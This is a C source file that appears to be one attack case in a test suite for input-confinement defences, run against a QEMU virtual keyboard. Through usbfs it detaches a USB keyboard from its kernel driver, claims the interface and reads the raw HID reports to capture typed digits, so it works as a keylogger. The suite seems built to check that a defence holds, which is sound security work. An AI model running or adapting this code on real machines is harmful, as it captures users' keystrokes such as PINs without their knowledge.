// SPDX-License-Identifier: Apache-2.0
/*
 * Takes the USB keyboard from its driver (USBDEVFS_DISCONNECT) and reads its reports
 * itself.
 *
 * attack: usbfs_detach
 * class: input
 * when: before
 * judge: keys
 * unprotected: module
 * devices: qemu-xhci usb-kbd
 * defence: confinement
 * why: to the module the keyboard has been unplugged, and another listed one is left; the
 *	REE has no /dev/bus/usb
 */
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <linux/usb/ch9.h>
#include <linux/usbdevice_fs.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "digits.h"
#include "hid.h"
#include "report.h"

struct keyboard {
	int fd;
	unsigned int interface, endpoint;
};

static bool is_keyboard(const struct usb_interface_descriptor *i)
{
	return i->bDescriptorType == USB_DT_INTERFACE && i->bInterfaceClass == USB_CLASS_HID &&
	       i->bInterfaceProtocol == 1;
}

/* The first interrupt endpoint after a keyboard's interface. */
static bool parse(const uint8_t *at, const uint8_t *end, struct keyboard *k)
{
	bool inside = false;

	for (; end - at > 2 && at[0] >= 2 && at[0] <= end - at; at += at[0]) {
		if (at[1] == USB_DT_INTERFACE) {
			inside = is_keyboard((const void *)at);
			k->interface = at[2];
		}
		if (inside && at[1] == USB_DT_ENDPOINT && at[2] & USB_DIR_IN) {
			k->endpoint = at[2];
			return true;
		}
	}
	return false;
}

static int find_keyboard(struct keyboard *k)
{
	uint8_t descriptors[1024];
	glob_t nodes;
	ssize_t len;
	size_t i;

	if (glob("/dev/bus/usb/*/*", 0, NULL, &nodes))
		return -ENOENT;
	for (i = 0; i < nodes.gl_pathc; i++) {
		k->fd = open(nodes.gl_pathv[i], O_RDWR | O_CLOEXEC);
		len = k->fd < 0 ? 0 : read(k->fd, descriptors, sizeof(descriptors));
		if (len > 0 && parse(descriptors, descriptors + len, k))
			break;
		close(k->fd);
	}
	len = i < nodes.gl_pathc ? 0 : -ENODEV;
	globfree(&nodes);
	return (int)len;
}

static int driver(const struct keyboard *k, int request)
{
	struct usbdevfs_ioctl command = { .ifno = (int)k->interface, .ioctl_code = request };

	return ioctl(k->fd, USBDEVFS_IOCTL, &command) < 0 ? -errno : 0;
}

static void collect(const struct keyboard *k, struct digits *d, struct digits_hid *hid)
{
	uint8_t report[HID_REPORT_SIZE];
	struct usbdevfs_bulktransfer transfer = {
		.ep = k->endpoint, .len = sizeof(report), .timeout = 200, .data = report,
	};
	int got = ioctl(k->fd, USBDEVFS_BULK, &transfer);

	if (got > 0)
		digits_add_report(d, hid, report, (size_t)got);
}

int main(void)
{
	struct digits_hid hid = { 0 };
	struct digits digits = { 0 };
	struct keyboard k;
	int ret;

	attack_init();
	ret = find_keyboard(&k);
	if (!ret)
		ret = driver(&k, USBDEVFS_DISCONNECT);
	attack_ready();
	if (ret)
		attack_failed("no USB keyboard can be taken: %s", strerror(-ret));
	if (ioctl(k.fd, USBDEVFS_CLAIMINTERFACE, &k.interface))
		attack_failed("USBDEVFS_CLAIMINTERFACE: %s", strerror(errno));
	while (!attack_stopping())
		collect(&k, &digits, &hid);
	ioctl(k.fd, USBDEVFS_RELEASEINTERFACE, &k.interface);
	driver(&k, USBDEVFS_CONNECT);
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
